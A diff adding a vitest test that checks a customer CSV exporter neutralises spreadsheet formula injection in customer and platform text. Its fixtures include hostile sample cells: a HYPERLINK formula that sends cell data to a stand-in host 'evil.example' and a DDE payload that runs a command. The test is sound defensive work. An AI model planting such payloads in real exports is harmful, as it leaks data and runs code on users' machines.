@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
-import { csvFormat, csvLines, EXPORT_COLUMNS, minorToDecimal, rowValues, type CustomerExportRow } from "#app/core/export/customer-csv.ts";
+import { csvFormat, csvLines, EXPORT_COLUMNS, guardFormula, minorToDecimal, rowValues, type CustomerExportRow } from "#app/core/export/customer-csv.ts";
 
 const labels = { yes: "sim", no: "não", segment: (k: string) => `seg:${k}`, churn: (b: string) => `churn:${b}` };
 const base: CustomerExportRow = {
@@ -34,6 +34,26 @@ describe("customer CSV values", () => {
     const en = rowValues({ ...base, churnRisk: null, rfmSegment: null, revenueMinor: null }, "USD", csvFormat("en"), labels);
     const enCol = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, en[i]]));
     expect(enCol).toMatchObject({ revenue: "0.00", churnRisk: "", churnBand: "", rfmSegment: "" });
+  });
+
+  it("guards text from customers and the platform against formula injection, never our own numbers", () => {
+    for (const bad of ["=1+2", '=HYPERLINK("http://evil.example/?"&A1;"clique")', "+55 11 99999-0000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]) {
+      expect(guardFormula(bad)).toBe(`'${bad}`);
+    }
+    for (const ok of ["Ana", "", " =not first", "São Paulo", "1+1", "a=b"]) expect(guardFormula(ok)).toBe(ok);
+    const evil = {
+      ...base, firstName: "=cmd|' /C calc'!A0", lastName: "+1", email: "@x", phone: "+5511999990000", city: "-Recife", province: "\tSP",
+      zip: "=0", country: "@BR", gender: "=g", locale: "+pt", taxId: "-123", platformId: "=p", tags: ["=vip", "b2b"], predictedClvMinor: -5n,
+    };
+    const v = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, rowValues(evil, "BRL", csvFormat("pt-BR"), labels)[i]]));
+    expect(v).toMatchObject({
+      firstName: "'=cmd|' /C calc'!A0", lastName: "'+1", email: "'@x", phone: "'+5511999990000", city: "'-Recife", province: "'\tSP",
+      zip: "'=0", country: "'@BR", gender: "'=g", locale: "'+pt", taxId: "'-123", platformId: "'=p", tags: "'=vip, b2b",
+      predictedClv: "-0,05", // a number we wrote: not guarded
+    });
+    // And it survives CSV quoting: a parser reads the guarded text back.
+    const format = csvFormat("en");
+    expect(parse(csvLines([[v.firstName!, v.province!]], format), { delimiter: format.delimiter })).toEqual([["'=cmd|' /C calc'!A0", "'\tSP"]]);
   });
 
   it("quotes separators, quotes and line breaks so a CSV parser reads the same values back", () => {
